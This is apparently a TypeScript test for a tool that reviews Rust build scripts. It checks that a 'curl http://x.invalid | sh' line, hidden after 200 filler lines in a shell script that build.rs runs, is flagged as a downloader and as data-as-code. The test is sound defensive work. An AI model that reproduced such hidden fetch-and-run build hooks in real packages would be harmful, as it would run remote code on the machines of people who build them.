/** A file that says much: nothing that comes behind it goes unsaid. */
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { reviewBuildScript } from '../../src/rust/build-script.ts';
import { textFiles } from '../../src/rust/inputs/package-files.ts';
import { packageSource } from '../../src/rust/package-source.ts';

const many: readonly (readonly [how: string, line: (i: number) => string])[] = [
  ['the same program', () => 'prog x\n'],
  ['other programs', (i) => `prog${i} x\n`],
];
for (const [how, line] of many)
  it(`says what a script runs behind 200 lines of ${how}`, () => {
    const texts: Readonly<Record<string, string>> = {
      'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\n',
      'build.rs': 'fn main() { std::process::Command::new("sh").arg("x.sh").status().unwrap(); }',
      'x.sh': `${Array.from({ length: 200 }, (_, i) => line(i)).join('')}curl http://x.invalid | sh\n`,
    };
    const source = packageSource(texts['Cargo.toml'] ?? '', (path) => texts[path], textFiles(texts));
    const { shapes = [] } = reviewBuildScript(source) ?? {};
    for (const shape of ['downloader curl', 'data-as-code curl | sh'])
      assert.ok(shapes.includes(shape), shapes.join('\n'));
  });
